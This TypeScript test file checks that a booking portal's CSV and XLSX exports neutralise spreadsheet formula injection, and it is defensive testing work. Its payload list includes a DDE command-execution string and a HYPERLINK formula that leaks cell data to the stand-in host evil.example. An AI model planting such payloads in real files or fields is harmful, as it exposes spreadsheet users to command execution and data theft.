import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestContext } from '../test/harness.js';
import { createOwner, createStaff, TEST_PASSWORD, type TestUser } from '../test/factories.js';
import { bookFlight, bookingBody, searchDirect } from '../test/flights.js';
import { unzipEntry } from '../test/zip.js';
import { proofSize, recordSuite } from './report.js';

/**
 * Formula payloads in every export (issue 21, decision 147). Text a spreadsheet would run — starting with = + - @,
 * a tab or a carriage return, their full-width forms, and the classic `-1+1+cmd|' /C calc'!A0` — is written
 * through the API into every user-typed text that reaches a file the portal writes: a customer's name (it signs
 * the reports' "booked by"), sub-users' names, top-up references, the back office's adjustment reasons. Then
 * every export the route table offers (the GET routes whose `format` takes `csv` or `xlsx`, found in the OpenAPI
 * description, so a new one fails the first test until it is fed here) is fetched by each owner in each language
 * and every cell read back: no cell may start like a formula unless neutralised (a leading apostrophe in CSV; an
 * inline string with the quote-prefix style in XLSX, which never holds a `<f>`), each payload must be found
 * neutralised, and a cell that is entirely a number (amounts, balances, counts) must stay bare.
 */

/** What spreadsheets run (Excel, LibreOffice, Google Sheets); checked here independently of `lib/csv.ts`. */
const LIVE = /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/;
const NUMBER = /^-?\d+(\.\d+)?$/;

/** At least five characters each (the shortest field takes five); the tab and CR ones keep text after them. */
const PAYLOADS = [
  "-1+1+cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"open")',
  '+1+1+cmd|calc',
  '-2+3*4 rest',
  '@SUM(1+9)*cmd',
  '=1+1 plain',
  '\t=1+1 tabbed',
  '\r=1+1 returned',
  'x\t=1+1 inner tab',
  '\uff1d1+1 full-width',
  '\uff0d1+1 full-width minus',
];
/** The same after the API's trimming (leading tabs and CRs are trimmed away: still text a spreadsheet could run). */
const stored = (p: string) => p.trim();

type Cell = { text: string; neutralised: boolean; number: boolean };

/** RFC 4180 CSV (quoted cells, doubled quotes, CRLF rows, a BOM). A neutralised cell starts with `'`. */
function csvCells(body: string): Cell[] {
  const text = body.replace(/^\ufeff/, '');
  const cells: string[] = [];
  let i = 0;
  while (i < text.length) {
    if (text[i] === '"') {
      let v = '';
      i++;
      for (;;) {
        if (text[i] === '"' && text[i + 1] === '"') {
          v += '"';
          i += 2;
        } else if (text[i] === '"') {
          i++;
          break;
        } else v += text[i++];
      }
      cells.push(v);
    } else {
      const end = text.slice(i).search(/[,\r\n]/);
      cells.push(end < 0 ? text.slice(i) : text.slice(i, i + end));
      i = end < 0 ? text.length : i + end;
    }
    if (text[i] === ',') i++;
    else if (text[i] === '\r' && text[i + 1] === '\n') i += 2;
  }
  return cells.map((c) =>
    c.startsWith("'") && c.length > 1
      ? { text: c.slice(1), neutralised: true, number: false }
      : { text: c, neutralised: false, number: NUMBER.test(c) },
  );
}

const unxml = (s: string) =>
  s
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&#(\d+);/g, (_, n) => String.fromCodePoint(Number(n)))
    .replace(/&amp;/g, '&');

/** Every cell of every sheet of a workbook; a neutralised text cell carries a quote-prefix style. */
function xlsxCells(zip: Buffer, failures: string[], where: string): Cell[] {
  const styles = unzipEntry(zip, 'xl/styles.xml') ?? '';
  const xfs = [...(styles.match(/<cellXfs[^>]*>(.*?)<\/cellXfs>/s)?.[1] ?? '').matchAll(/<xf\b[^>]*\/?>/g)].map(
    (m) => m[0],
  );
  const cells: Cell[] = [];
  for (let n = 1; ; n++) {
    const sheet = unzipEntry(zip, `xl/worksheets/sheet${n}.xml`);
    if (sheet === null) break;
    if (/<f[\s>]/.test(sheet)) failures.push(`${where}: sheet ${n} holds a formula`);
    for (const m of sheet.matchAll(/<c\b([^>]*)>(.*?)<\/c>/gs)) {
      const attrs = m[1]!;
      const style = Number(attrs.match(/\bs="(\d+)"/)?.[1] ?? 0);
      if (/\bt="inlineStr"/.test(attrs)) {
        const text = unxml(m[2]!.match(/<t[^>]*>(.*?)<\/t>/s)?.[1] ?? '');
        cells.push({ text, neutralised: /quotePrefix="1"/.test(xfs[style] ?? ''), number: false });
      } else if (/\bt="/.test(attrs)) failures.push(`${where}: a cell of another type: ${m[0].slice(0, 120)}`);
      else cells.push({ text: m[2]!.match(/<v>(.*?)<\/v>/)?.[1] ?? '', neutralised: false, number: true });
    }
  }
  return cells;
}

let ctx: TestContext;
let customer: TestUser;
let agency: TestUser;
let exportRoutes: string[] = [];

const inject = (user: TestUser | null, method: string, url: string, payload?: object, lang = 'en') =>
  ctx.app.inject({ method: method as 'GET', url, headers: { ...(user?.auth ?? {}), _lang: lang }, payload });

async function register(name: string, kind: 'customer' | 'agency', n: number): Promise<TestUser> {
  const email = `formula.${kind}.${Date.now()}@example.iq`;
  const res = await ctx.app.inject({
    method: 'POST',
    url: '/api/v1/auth/register',
    remoteAddress: `10.251.0.${n}`,
    payload: { name, email, password: TEST_PASSWORD, password_confirmation: TEST_PASSWORD },
  });
  if (res.statusCode !== 201) throw new Error(`register: ${res.statusCode} ${res.body}`);
  const { token, user } = res.json().data as { token: string; user: { id: string; account: { id: string } } };
  return { id: user.id, accountId: user.account.id, email, token, auth: { authorization: `Bearer ${token}` } };
}

beforeAll(async () => {
  ctx = await createTestApp();
  const staff = await createStaff(ctx, 'admin');
  // The customer's own name, typed at registration, signs its bookings in the reports.
  customer = await register(stored(PAYLOADS[0]!), 'customer', 1);
  // An agency whose sub-users, named below, book for it.
  agency = await createOwner(ctx, { kind: 'agency', name: 'Formula Agency' });

  for (const owner of [customer, agency]) {
    // Every payload as a top-up reference (the statement's reference column), each approved by the desk…
    for (const [j, p] of PAYLOADS.entries()) {
      const topup = await inject(owner, 'POST', '/api/v1/wallet-topups', {
        currency: 'IQD',
        amount: String(5_000_000 + j),
        method: 'zaincash',
        reference: p,
        note: p,
      });
      expect(topup.statusCode, topup.body).toBe(201);
      const id = topup.json().data.id as string;
      const approved = await inject(staff, 'POST', `/api/v1/admin/wallet-topups/${id}/approve`, { note: p });
      expect(approved.statusCode, approved.body).toBe(200);
    }
    // …and as the reasons of the back office's corrections (the statement's description column).
    for (const p of PAYLOADS) {
      const adjusted = await inject(staff, 'POST', '/api/v1/admin/wallet-adjustments', {
        account_id: owner.accountId,
        currency: 'IQD',
        direction: 'credit',
        amount: '1000',
        reason: p,
      });
      expect(adjusted.statusCode, adjusted.body).toBe(201);
    }
  }
  // The customer books, signing the reports' line with its name.
  expect((await bookFlight(ctx, customer, bookingBody(await searchDirect(ctx, 'BGW', 'DXB', 21)))).statusCode).toBe(
    201,
  );
  // Sub-users named with every payload each book a flight for the agency.
  for (const [j, p] of PAYLOADS.entries()) {
    const made = await inject(agency, 'POST', '/api/v1/sub-users', {
      name: p,
      email: `formula.sub${j}.${Date.now()}@example.iq`,
      password: TEST_PASSWORD,
      password_confirmation: TEST_PASSWORD,
      permissions: ['book', 'pay_wallet'],
    });
    expect(made.statusCode, made.body).toBe(201);
    const login = await ctx.app.inject({
      method: 'POST',
      url: '/api/v1/auth/login',
      remoteAddress: `10.251.1.${j}`,
      payload: { email: made.json().data.email, password: TEST_PASSWORD },
    });
    expect(login.statusCode, login.body).toBe(200);
    const sub = { auth: { authorization: `Bearer ${login.json().data.token}` } } as TestUser;
    const booked = await bookFlight(ctx, sub, bookingBody(await searchDirect(ctx, 'BGW', 'IST', 22 + j)));
    expect(booked.statusCode, booked.body).toBe(201);
  }

  const doc = ctx.app.swagger() as {
    paths: Record<
      string,
      Record<string, { parameters?: Array<{ name: string; in: string; schema?: { enum?: string[] } }> }>
    >;
  };
  exportRoutes = Object.entries(doc.paths)
    .flatMap(([path, ops]) =>
      (ops.get?.parameters ?? [])
        .filter((p) => p.in === 'query' && p.schema?.enum?.some((v) => v === 'csv' || v === 'xlsx'))
        .map((p) => `GET ${path} ${p.name}=${p.schema!.enum!.filter((v) => v === 'csv' || v === 'xlsx').join('|')}`),
    )
    .sort();
}, 600_000);
afterAll(() => ctx?.close());

const live = PAYLOADS.map(stored).filter((p) => LIVE.test(p));
/** Every export, what it is asked with, and the payloads each owner's file must show (neutralised). */
const EXPORTS: Record<string, { query: string; shows: Record<'customer' | 'agency', string[]> }> = {
  // References and adjustment reasons are the statement's own columns.
  'GET /api/v1/wallet-statement format=csv': { query: 'currency=IQD', shows: { customer: live, agency: live } },
  // "Booked by" is the customer's own name, or each sub-user's.
  'GET /api/v1/reports format=csv|xlsx': { query: '', shows: { customer: [stored(PAYLOADS[0]!)], agency: live } },
};

describe('formula payloads in every export', () => {
  it('knows every export the route table offers', () => {
    expect(exportRoutes).toEqual(Object.keys(EXPORTS).sort());
  });

  it('neutralises every cell a spreadsheet would run, finds each payload neutralised, leaves numbers bare', async () => {
    const failures: string[] = [];
    let requests = 0;
    let files = 0;
    let cellsRead = 0;
    let neutralisedCells = 0;
    let numbers = 0;
    const langs = proofSize() === 'full' ? ['ar', 'en', 'de'] : ['en', 'ar'];
    for (const route of exportRoutes) {
      const [, path, param] = route.split(' ') as [string, string, string];
      const [name, formats] = param.split('=') as [string, string];
      for (const format of formats.split('|')) {
        for (const [who, owner] of [
          ['customer', customer],
          ['agency', agency],
        ] as const) {
          for (const lang of langs) {
            const where = `${path} ${format} ${who} ${lang}`;
            const query = [EXPORTS[route]!.query, `${name}=${format}`].filter(Boolean).join('&');
            const res = await inject(owner, 'GET', `${path}?${query}`, undefined, lang);
            requests++;
            if (res.statusCode !== 200) {
              failures.push(`${where}: ${res.statusCode} ${res.body.slice(0, 200)}`);
              continue;
            }
            files++;
            expect(res.headers['content-disposition']).toMatch(/^attachment;/);
            const cells = format === 'xlsx' ? xlsxCells(res.rawPayload, failures, where) : csvCells(res.body);
            cellsRead += cells.length;
            for (const c of cells) {
              if (c.neutralised) neutralisedCells++;
              if (c.number || (!c.neutralised && NUMBER.test(c.text))) numbers++;
              if (!c.neutralised && LIVE.test(c.text) && !NUMBER.test(c.text))
                failures.push(`${where}: a live formula ${JSON.stringify(c.text)}`);
              if (c.neutralised && NUMBER.test(c.text))
                failures.push(`${where}: a number made text ${JSON.stringify(c.text)}`);
            }
            // Each payload is found in the file, neutralised.
            for (const p of EXPORTS[route]!.shows[who]) {
              const found = cells.filter((c) => c.text.startsWith(p));
              if (found.length === 0) failures.push(`${where}: ${JSON.stringify(p)} is missing`);
              for (const c of found)
                if (!c.neutralised) failures.push(`${where}: ${JSON.stringify(p)} is not neutralised`);
            }
          }
        }
      }
    }
    recordSuite({
      suite: 'export formulas',
      size: proofSize(),
      requests,
      serverErrors: 0,
      crossUserSuccesses: 0,
      invariantsBroken: failures.length,
      notes: {
        exports: exportRoutes.length,
        files,
        payloads: PAYLOADS.length,
        cellsRead,
        neutralisedCells,
        bareNumbers: numbers,
      },
      failures,
    });
    expect(failures).toEqual([]);
    expect(neutralisedCells).toBeGreaterThan(0);
    expect(numbers).toBeGreaterThan(0);
  });
});
